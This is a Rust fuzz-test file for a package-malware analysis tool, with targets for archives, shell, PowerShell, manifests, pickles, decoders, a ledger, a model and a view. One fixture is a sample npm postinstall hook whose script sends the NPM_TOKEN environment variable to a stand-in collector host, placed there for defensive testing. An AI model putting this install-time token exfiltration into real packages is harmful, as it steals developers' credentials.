//! What is fuzzed: each function gives bytes to one entry of the library and looks whether the answer holds together. An
//! error is an answer; what may not be is a panic, a place outside of its text, a text that can act on a terminal.

use std::io::Cursor;
use std::path::Path;
use std::sync::{Arc, LazyLock};
use std::time::Duration;

use cerebro::behavior::{Reading, Sequence, shell};
use cerebro::case::search::{Mode, Query, search};
use cerebro::case::{Case, Rule};
use cerebro::config::{Config, Depth, Settings, sample};
use cerebro::dataset::{self, Format};
use cerebro::diff::{Diff, Sign};
use cerebro::ledger::{Ledger, ROOT};
use cerebro::model::{Device, Model};
use cerebro::package::{self, Ecosystem, Limits, OpenOptions, Package, Target};
use cerebro::queue::feed;
use cerebro::sandbox::Outcome;
use cerebro::sandbox::protocol::{self, Reply, Request};
use cerebro::syntax::beautify::{self, beautify};
use cerebro::syntax::color::{Painter, Syntaxes};
use cerebro::syntax::decoder::{self, Decoder};
use cerebro::syntax::ir::Language;
use cerebro::syntax::shell::Dialect;
use cerebro::syntax::{Doc, frozen, shape, symbols};
use cerebro::text::{self, Hint, Source, Span};
use sha2::{Digest as _, Sha256};
use tempfile::TempDir;

use crate::common::{archives, constant_model, packages};

/// What takes the bytes of one target.
pub type Entry = fn(&[u8]);

/// Every target by its name.
pub const ALL: [(&str, Entry); 19] = [
    ("tar", tar),
    ("zip", zip),
    ("compressed", compressed),
    ("text", text),
    ("python", python),
    ("javascript", javascript),
    ("shell", shell),
    ("powershell", powershell),
    ("gyp", gyp),
    ("manifest", manifest),
    ("serialized", serialized),
    ("decoders", decoders),
    ("config", config),
    ("feed", feed),
    ("external", external),
    ("ledger", ledger),
    ("model", model),
    ("worker", worker),
    ("view", view),
];

/// A tar, as npm and as pip read it.
pub fn tar(data: &[u8]) {
    open("demo-1.0.0.tgz", data);
    open("demo-1.0.0.tar.gz", data);
}

/// A zip: a wheel, and what may be the password zip of a collection.
pub fn zip(data: &[u8]) {
    open("demo-1.0.0-py3-none-any.whl", data);
    open("demo-1.0.0.zip", data);
}

/// A tar packed by gzip, bzip2, xz, lzma or zstd.
pub fn compressed(data: &[u8]) {
    open("demo-1.0.0.tar", data);
}

/// Bytes as text, in every encoding that they ask for, and back to the bytes.
pub fn text(data: &[u8]) {
    for hint in [Hint::Python, Hint::Code, Hint::Other] {
        let Some(source) = Source::decode(data, hint) else { continue };
        for (at, c) in source.text.char_indices() {
            let span = Span { start: at, end: at + c.len_utf8() };
            let bytes = source.to_file(span);
            assert!(
                bytes.start <= bytes.end && bytes.end <= data.len(),
                "{span:?} lies at {bytes:?} of {}",
                data.len()
            );
            within(&source.text, source.from_file(bytes));
        }
        for line in 1..=source.line_count() {
            shown(source.line(line));
            assert_eq!(source.line_of(source.line_start(line)), line);
        }
        shown(&source.text);
    }
}

/// A package of one Python file.
pub fn python(data: &[u8]) {
    case(sdist(&[("setup.py", data)]));
}

/// A package of one file of JavaScript, TypeScript or either with markup; the first byte says which.
pub fn javascript(data: &[u8]) {
    let (kind, code) = data.split_first().map_or((0, data), |(first, rest)| (*first, rest));
    let path = ["index.js", "index.ts", "index.tsx", "index.mjs"][usize::from(kind) % 4];
    case(npm(r#"{"name": "demo", "version": "1.0.0"}"#.as_bytes(), &[(path, code)]));
}

/// Text of shells, and a package that it is a hook of.
pub fn shell(data: &[u8]) {
    let text = String::from_utf8_lossy(data);
    for dialect in [Dialect::Bash, Dialect::Batch] {
        commands(&text, dialect);
    }
    let manifest = serde_json::json!({"name": "demo", "version": "1.0.0", "scripts": {"postinstall": text}});
    case(npm(manifest.to_string().as_bytes(), &[]));
}

/// Text of PowerShell.
pub fn powershell(data: &[u8]) {
    commands(&String::from_utf8_lossy(data), Dialect::PowerShell);
    case(npm(
        br#"{"name": "demo", "version": "1.0.0", "scripts": {"install": "powershell a.ps1"}}"#,
        &[("a.ps1", data)],
    ));
}

/// What node-gyp reads.
pub fn gyp(data: &[u8]) {
    let manifest = br#"{"name": "demo", "version": "1.0.0"}"#;
    case(npm(manifest, &[("binding.gyp", data), ("more.gypi", data), ("a.js", b"")]));
}

/// Every file that says what a package is and runs; the first byte says which one.
pub fn manifest(data: &[u8]) {
    let (kind, content) = data.split_first().map_or((0, data), |(first, rest)| (*first, rest));
    let names = ["package.json", "PKG-INFO", "pyproject.toml", "setup.cfg", "demo.egg-info/entry_points.txt", "a.pth"];
    match names[usize::from(kind) % names.len()] {
        "package.json" => case(npm(content, &[("index.js", b"")])),
        name => case(sdist(&[("setup.py", b"x = 1\n"), ("demo/__init__.py", b""), (name, content)])),
    }
}

/// Pickles and marshalled code.
pub fn serialized(data: &[u8]) {
    let known = |name: &str| name.len().is_multiple_of(2);
    for listing in [
        frozen::pickle_listing(data),
        frozen::code_listing(data, &known, &known),
        frozen::compiled_listing(data, &known, &known),
    ] {
        let _ = listing.map(|text| cerebro::syntax::python::lower(&text));
    }
    case(sdist(&[("setup.py", b"import demo\n"), ("demo/__init__.pyc", data), ("demo/a.pkl", data)]));
}

/// What an analyst decodes by hand, and what is proposed.
pub fn decoders(data: &[u8]) {
    let never = || false;
    for decoder in Decoder::all().into_iter().chain([Decoder::Xor(b"key".to_vec()), Decoder::Codes(7)]) {
        if let Ok(out) = decoder.apply(data) {
            shown(&decoder::preview(&out));
        }
    }
    let limits = decoder::Limits { depth: 4, tries: 60, bytes: 1 << 20, ..decoder::Limits::USUAL };
    let found = decoder::propose(data, &limits, &never);
    for proposal in &found.proposals {
        let _ = decoder::apply(&proposal.chain, data).expect("what is proposed fits");
    }
    if let Ok(text) = std::str::from_utf8(data) {
        let _ = text.lines().next().unwrap_or_default().parse::<Decoder>();
    }
    if data.len() < 2048 {
        let _ = decoder::unfold(data, &never);
    }
}

/// The user's file of settings, keys and colors.
pub fn config(data: &[u8]) {
    static FOLDER: LazyLock<TempDir> = LazyLock::new(in_memory);
    std::fs::write(FOLDER.path().join(cerebro::config::FILE), data).unwrap();
    for depth in [Depth::True, Depth::Indexed] {
        match Config::load(Some(FOLDER.path()), depth) {
            Ok(config) => drop(sample(&config.keys)),
            Err(error) => error.to_string().lines().for_each(calm),
        }
    }
    let _ = Settings::load(Some(FOLDER.path()));
}

/// A feed of the queue.
pub fn feed(data: &[u8]) {
    match feed::parse(data, "feed.jsonl", Path::new("folder")) {
        Ok((_, wrong)) => wrong.iter().for_each(|line| calm(line)),
        Err(error) => calm(&error),
    }
}

/// What others say of a package, from files.
pub fn external(data: &[u8]) {
    static CASE: LazyLock<Case> = LazyLock::new(|| {
        let manifest = br#"{"name": "demo", "version": "1.0.0", "scripts": {"postinstall": "node send.js"}}"#;
        let code =
            b"const https = require('https');\nhttps.get('https://collect.example.com/?' + process.env.NPM_TOKEN);\n";
        let package = Arc::new(npm(manifest, &[("send.js", code)]).unwrap());
        Case::read(package, Duration::ZERO, &Reading::default())
    });
    let files = [("a.json".to_owned(), Ok(data.to_vec())), ("b.json".to_owned(), Ok(data.to_vec()))];
    let told = cerebro::external::tell(CASE.clone(), Path::new("absent"), files);
    for evidence in told.evidence.iter() {
        shown(&evidence.what);
        let source = evidence.doc.and_then(|doc| told.source(doc));
        if let (Some(source), Some(span)) = (source, evidence.span) {
            within(&source.text, span);
        }
    }
    told.contradictions().iter().for_each(|what| shown(what));
    assert_eq!(told.external.reports.len(), 2);
}

/// A ledger: its file, its events, what is noted beside it; the first byte says which.
pub fn ledger(data: &[u8]) {
    static EMPTY: LazyLock<Vec<u8>> = LazyLock::new(|| {
        let folder = in_memory();
        let path = folder.path().join("ledger.sqlite");
        drop(Ledger::open(&path, "ann").unwrap());
        std::fs::read(path).unwrap()
    });
    let (kind, content) = data.split_first().map_or((0, data), |(first, rest)| (*first, rest));
    let folder = in_memory();
    let path = folder.path().join("ledger.sqlite");
    match kind % 3 {
        0 => std::fs::write(&path, content).unwrap(),
        1 => {
            std::fs::write(&path, &*EMPTY).unwrap();
            write_events(&path, &String::from_utf8_lossy(content));
        }
        _ => {
            std::fs::write(&path, &*EMPTY).unwrap();
            std::fs::write(folder.path().join("ledger.sqlite.head"), content).unwrap();
        }
    }
    match Ledger::open(&path, "ann") {
        Ok(mut ledger) => {
            let _ = ledger.verify();
            for format in [Format::Jsonl, Format::Csv { neutralise: true }] {
                let mut out = Vec::new();
                let _ = dataset::write(&ledger, format, &mut out);
            }
            let _ = ledger.undo();
            let _ = ledger.refresh();
        }
        Err(error) => error.to_string().lines().for_each(calm),
    }
    let _ = Ledger::restore(&path);
}

/// Appends lines as the bodies of events, with a chain that is in order.
fn write_events(path: &Path, bodies: &str) {
    let mut connection = rusqlite::Connection::open(path).unwrap();
    let transaction = connection.transaction().unwrap();
    let mut previous = ROOT.to_owned();
    for (number, body) in (1_i64..).zip(bodies.lines().take(50)) {
        let hash = text::hex(&Sha256::digest(format!("{number}\n{previous}\n{body}")));
        let row = (number, &previous, &hash, body);
        let insert = "INSERT INTO event (number, previous, hash, body) VALUES (?1, ?2, ?3, ?4)";
        transaction.execute(insert, row).unwrap();
        previous = hash;
    }
    transaction.commit().unwrap();
}

/// A model's folder in which one file is another; the first byte says which.
pub fn model(data: &[u8]) {
    static FOLDER: LazyLock<TempDir> = LazyLock::new(|| {
        let folder = in_memory();
        constant_model::model(folder.path(), 1.0);
        folder
    });
    const FILES: [&str; 5] = ["tokenizer.json", "config.json", "model.safetensors", "linear.json", "cerebro.json"];
    let (kind, content) = data.split_first().map_or((0, data), |(first, rest)| (*first, rest));
    let path = FOLDER.path().join("model").join(FILES[usize::from(kind) % FILES.len()]);
    let before = std::fs::read(&path).ok();
    std::fs::write(&path, content).unwrap();
    match Model::load(&FOLDER.path().join("model"), &Device::cpu()) {
        Ok(model) => {
            if let Ok(answer) = model.classify("import os run url", true) {
                assert!(answer.probabilities.iter().all(|part| part.is_finite()));
            }
        }
        Err(error) => error.to_string().lines().for_each(calm),
    }
    match before {
        Some(before) => std::fs::write(&path, before).unwrap(),
        None => std::fs::remove_file(&path).unwrap(),
    }
}

/// What comes over a worker's pipes, and what becomes of a case that a worker made up.
pub fn worker(data: &[u8]) {
    const MOST: u64 = 1 << 20;
    let _ = protocol::receive::<Request>(&mut Cursor::new(data), MOST);
    if let Ok(Reply::Done(Outcome::Beautified(Some((_, pretty))))) = protocol::receive(&mut Cursor::new(data), MOST) {
        let text = pretty.text.clone();
        if pretty.is_of(&text) {
            (0..text.len().min(64)).for_each(|start| within(&text, pretty.to_original(Span { start, end: start + 1 })));
        }
    }
    let mut pipe = Cursor::new(data);
    let Ok(Reply::Opened(package)) = protocol::receive::<Reply>(&mut pipe, MOST) else { return };
    let Ok(Reply::Read(found)) = protocol::receive::<Reply>(&mut pipe, MOST) else { return };
    let case = found.into_case(package, Reading::default());
    told(&case);
    let _ = Rule::before(&case);
    let _ = Diff::of(&case, &case).summary();
    let reread = Case::read(Arc::clone(&case.package), Duration::ZERO, &Reading::default());
    let _ = Diff::of(&reread, &case);
    looked_for(&case.package, &case.sequence, "a");
}

/// What is made of a text for the screen: colors, layout, names, comparison, search. The first byte says
/// what language it is in.
pub fn view(data: &[u8]) {
    static SYNTAXES: LazyLock<Arc<Syntaxes>> = LazyLock::new(|| Arc::new(Syntaxes::load()));
    const NAMES: [&str; 10] =
        ["a.py", "a.js", "a.ts", "a.tsx", "a.sh", "a.ps1", "a.json", "a.toml", "a.html", "README.md"];
    let (kind, content) = data.split_first().map_or((0, data), |(first, rest)| (*first, rest));
    let path = NAMES[usize::from(kind) % NAMES.len()];
    let Some(source) = Source::decode(content, Hint::Code).map(Arc::new) else { return };
    let mut painter = Painter::new(&SYNTAXES, path, Arc::clone(&source));
    let wanted: Vec<(usize, std::ops::Range<usize>)> =
        (1..=source.line_count().min(200)).map(|line| (line, 0..source.line(line).len())).collect();
    for (line, painted) in painter.paint(&wanted, &|| false).unwrap() {
        let text = source.line(line);
        assert!(painted.runs.iter().all(|(end, _)| text.is_char_boundary(*end)), "{painted:?} of {text:?}");
    }
    painter.settle(&|| false);
    if let Some(format) = beautify::Format::of(path, &source.text) {
        let pretty = beautify(&source.text, format);
        assert!(pretty.is_of(&source.text));
        let characters = |text: &str| {
            let span = |(start, c): (usize, char)| Span { start, end: start + c.len_utf8() };
            text.char_indices().map(span).collect::<Vec<_>>()
        };
        characters(&source.text).into_iter().for_each(|span| within(&pretty.text, pretty.from_original(span)));
        characters(&pretty.text).into_iter().for_each(|span| within(&source.text, pretty.to_original(span)));
    }
    if let Some(language) = Language::of(path, &source.text) {
        let whole = Span { start: 0, end: source.text.len() };
        for name in symbols::names_in(&source.text, language, whole).unwrap_or_default().iter().take(4) {
            for symbol in symbols::of_names(&source.text, language, std::slice::from_ref(name)).into_iter().flatten() {
                within(&source.text, symbol.span);
            }
        }
    }
    // What changes where a word is another, and where lines are gone.
    let other: String =
        source.text.replacen("a", "b", 3).split_inclusive('\n').filter(|line| line.len() != 7).collect();
    let _ = shape::likeness(path, &source.text, &other);
    let one = |text: &str| {
        let file = packages::file(&format!("package/{path}"), text);
        let package = Arc::new(packages::package(Ecosystem::Npm, "package/", vec![file]));
        let (sequence, text) = (Arc::default(), Arc::default());
        let (evidence, indicators, brief, external) = (Arc::default(), Arc::default(), Arc::default(), Arc::default());
        let (verdict, timing, reading) = (None, cerebro::case::Timing::default(), Reading::default());
        Case { package, sequence, reading, text, evidence, indicators, brief, external, verdict, timing }
    };
    let (old, new) = (one(&source.text), one(&other));
    let diff = Diff::of(&old, &new);
    for row in diff.hunks.iter().flat_map(|hunk| &hunk.rows) {
        let (source, span) = if row.sign == Sign::Removed { (&source.text, row.old) } else { (&other, row.new) };
        let text = span.and_then(|span| source.get(span.start..span.end)).expect("a row has its text");
        assert!(row.emphasis.iter().all(|range| text.get(range.clone()).is_some()), "{row:?} of {text:?}");
    }
    looked_for(&new.package, &new.sequence, source.line(1));
}

/// Bounds that are reached quickly.
fn options() -> OpenOptions {
    let (file_bytes, total_bytes) = (1 << 20, 4 << 20);
    let limits = Limits { archive_bytes: 1 << 20, file_bytes, total_bytes, files: 1000, ..Limits::default() };
    OpenOptions { limits, ..OpenOptions::default() }
}

fn open(name: &str, data: &[u8]) -> Option<Package> {
    match package::open_bytes(name, data.to_vec(), &options()) {
        Ok(package) => {
            holds_together(&package);
            Some(package)
        }
        Err(error) => {
            calm(&error.to_string());
            None
        }
    }
}

fn npm(manifest: &[u8], files: &[(&str, &[u8])]) -> Option<Package> {
    let paths: Vec<String> = files.iter().map(|(path, _)| format!("package/{path}")).collect();
    let mut members = vec![("package/package.json", manifest)];
    members.extend(paths.iter().map(String::as_str).zip(files.iter().map(|(_, bytes)| *bytes)));
    open("demo-1.0.0.tgz", &archives::tar(&members))
}

fn sdist(files: &[(&str, &[u8])]) -> Option<Package> {
    let paths: Vec<String> = files.iter().map(|(path, _)| format!("demo-1.0/{path}")).collect();
    let members: Vec<(&str, &[u8])> =
        paths.iter().map(String::as_str).zip(files.iter().map(|(_, bytes)| *bytes)).collect();
    open("demo-1.0.tar.gz", &archives::tar(&members))
}

/// Reads all that a package does, as a worker would.
fn case(package: Option<Package>) {
    if let Some(package) = package {
        let case = Case::read(Arc::new(package), Duration::ZERO, &Reading::default());
        let places = case.sequence.steps.iter().map(|step| (step.doc, step.span));
        let found = case.indicators.iter().flat_map(|indicator| &indicator.places).map(|place| (place.doc, place.span));
        let evidence = case.evidence.iter().filter_map(|evidence| evidence.doc.zip(evidence.span));
        for (doc, span) in places.chain(found).chain(evidence) {
            if let Some(source) = case.source(doc) {
                within(&source.text, span);
            }
        }
        assert!(case.sequence.steps.iter().all(|step| step.entry < case.sequence.entries.len() && step.line > 0));
        told(&case);
    }
}

/// What is printed of a case.
fn told(case: &Case) {
    let mut line = Vec::new();
    text::write_json_line(&mut line, case).unwrap();
    assert!(line.is_ascii());
    for skip in case.skipped() {
        shown(&skip.path);
        shown(&skip.reason);
    }
    for doc in (0..case.package.files.len()).map(Doc::File).chain((0..case.sequence.layers.len()).map(Doc::Layer)) {
        let _ = (case.file_of(doc), case.source(doc));
    }
}

fn holds_together(package: &Package) {
    assert!(package.files.is_sorted_by(|a, b| a.path < b.path), "a path stands twice, or out of order");
    for entry in &package.entries {
        let file = match &entry.target {
            Target::File(file) | Target::Function { file, .. } => *file,
            Target::Shell { file, span, .. } => {
                if let Some(source) = package.source(*file) {
                    within(&source.text, *span);
                }
                *file
            }
            Target::Unresolved(_) => continue,
        };
        assert!(file < package.files.len(), "{} runs a file that is none", entry.name);
    }
    for (path, what) in package.oddities.iter().map(|odd| (&odd.path, &odd.what)) {
        shown(path);
        shown(what);
    }
}

fn commands(text: &str, dialect: Dialect) {
    for (span, _) in shell::read_as(text, dialect).acts {
        within(text, span);
    }
}

fn looked_for(package: &Package, sequence: &Sequence, typed: &str) {
    for mode in [Mode::Literal, Mode::Regex, Mode::Hex] {
        if let Ok(query) = Query::parse(typed, mode) {
            let _ = search(package, sequence, &query, &|| false, &mut |_| {});
        }
    }
}

fn within(text: &str, span: Span) {
    assert!(text.get(span.start..span.end).is_some(), "{span:?} is no stretch of a text of {} bytes", text.len());
}

/// A text as it would reach a terminal.
fn shown(text: &str) {
    calm(&text::escape(text));
    for piece in text.lines().flat_map(text::marks) {
        calm(&piece.text);
    }
}

fn calm(text: &str) {
    assert!(!text.contains(|c: char| text::is_hidden(c) && c != ' '), "something hidden is left in {text:?}");
}

/// A folder that lies in memory where there is such a place.
fn in_memory() -> TempDir {
    let shared = Path::new("/dev/shm");
    if shared.is_dir() { tempfile::tempdir_in(shared) } else { tempfile::tempdir() }.unwrap()
}
